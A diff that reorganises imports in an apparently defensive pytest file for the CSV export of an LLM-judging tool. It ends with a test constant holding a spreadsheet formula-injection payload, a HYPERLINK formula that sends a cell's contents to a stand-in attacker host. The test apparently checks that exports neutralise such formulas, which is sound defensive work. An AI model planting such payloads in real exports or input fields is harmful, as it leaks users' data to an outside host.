@@ -11,14 +11,14 @@ from typing import Any
 import pytest
 from typer.testing import CliRunner
 
+from judge.analysis.table_export import csv_text, safe_cell
 from judge.cli import app
-from judge.exports import csv_text, safe_cell
+from judge.core.types import Winner
 from judge.importers.bundle import ImportBundle
 from judge.importers.records import PromptRecord, ResponseRecord, VoteRecord
 from judge.store.engine import get_engine, session_scope
 from judge.store.ingest import write_bundle
 from judge.testing.fake_provider import FakeProvider
-from judge.types import Winner
 
 runner = CliRunner()
 VOTER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
